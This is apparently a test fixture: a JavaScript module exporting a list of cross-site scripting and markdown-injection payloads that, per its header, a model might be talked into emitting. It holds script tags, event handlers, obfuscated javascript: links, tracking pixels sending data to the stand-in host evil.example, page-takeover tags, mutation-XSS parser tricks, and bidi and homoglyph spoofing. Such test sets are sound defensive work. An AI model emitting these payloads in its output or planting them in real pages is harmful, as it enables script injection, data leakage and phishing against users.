// Texts that a model may be talked into, each a way to run code, load something or leave the page. Whatever would run
// sets `window.__pwned`; whatever would load asks `evil.example`.
const PWN = "window.__pwned=1";
const EVIL = "https://evil.example";
const FENCE = "```";

export const PAYLOADS = [
  // Scripts and event handlers
  `<script>${PWN}</script>`,
  `<SCRIPT SRC=${EVIL}/x.js></SCRIPT>`,
  `<script type="module">import("${EVIL}/x.js")</script>`,
  `<img src=x onerror="${PWN}">`,
  `<img/src=x/onerror=${PWN}//`,
  `<svg onload="${PWN}">`,
  `<svg><script>${PWN}</script></svg>`,
  `<svg><animate onbegin="${PWN}" attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${PWN}>#x"/></svg>`,
  `<body onload="${PWN}">`,
  `<details open ontoggle="${PWN}"><summary>more</summary></details>`,
  `<input autofocus onfocus="${PWN}">`,
  `<video><source onerror="${PWN}"></video>`,
  `<marquee onstart="${PWN}">news</marquee>`,
  `<div onpointerenter="${PWN}" style="position:fixed;inset:0">cover</div>`,
  // Links
  `[click](javascript:${PWN})`,
  `[click](JaVaScRiPt:${PWN})`,
  `[click](java&#115;cript:${PWN})`,
  `[click](javascript&colon;${PWN})`,
  `[click](\u0001javascript:${PWN})`,
  `[click](<java\tscript:${PWN}>)`,
  `[click](vbscript:${PWN})`,
  `[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)`,
  `<javascript:${PWN}>`,
  `[click][1]\n\n[1]: javascript:${PWN}`,
  `[click](//evil.example/protocol-relative)`,
  `[click](/\\evil.example/backslash)`,
  `<a href="javascript:${PWN}" target=_top>click</a>`,
  // Things that load by being shown
  `![pixel](${EVIL}/pixel.png?secret=1)`,
  `[![pixel](${EVIL}/a.png)](${EVIL}/b)`,
  `![x][p]\n\n[p]: ${EVIL}/reference.png`,
  `![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${PWN}'/>)`,
  `<iframe src="${EVIL}"></iframe><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<object data="${EVIL}/x.swf"></object><embed src="${EVIL}/x.swf">`,
  `<link rel=stylesheet href="${EVIL}/x.css"><link rel=dns-prefetch href="//evil.example">`,
  `<style>@import "${EVIL}/x.css"; * { background: url(${EVIL}/y.png) }</style>`,
  `<p style="background:url(${EVIL}/z.png)">styled</p>`,
  `<video poster="${EVIL}/p.png" src="${EVIL}/v.mp4" autoplay></video><audio src="${EVIL}/a.mp3" autoplay></audio>`,
  // Taking over the page
  `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
  `<base href="${EVIL}/">[relative](/docs)`,
  `<form action="${EVIL}" id=f><button formaction="javascript:${PWN}">send</button></form>`,
  `<img name=getElementById><form name=body><input name=appendChild></form>`,
  // Parsers that disagree with each other
  `<noscript><p title="</noscript><img src=x onerror=${PWN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${PWN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${PWN} src>">`,
  `${FENCE}html\n</code></pre><img src=x onerror=${PWN}>\n${FENCE}`,
  `${FENCE}"><img src=x onerror=${PWN}>\nx\n${FENCE}`,
  `$$\\href{javascript:${PWN}}{x}$$ and \\(\\includegraphics{${EVIL}/m.png}\\)`,
  // Letters that are not what they seem
  `[\u202Emoc.elpmaxe.knab\u202C](${EVIL}/bidi) and \u2066<img src=x onerror=${PWN}>\u2069`,
  `\uFF1Cscript\uFF1E${PWN}\uFF1C/script\uFF1E\u0000<scr\u0000ipt>${PWN}</scr\u0000ipt>`,
  `[bank.example](https://b\u0430nk.example/) [x](https://bank.example@evil.example/)`,
  `| a |\n|---|\n| <img src=x onerror=${PWN}> [x](javascript:${PWN}) |\n\n[^1]\n\n[^1]: <script>${PWN}</script>`,
];
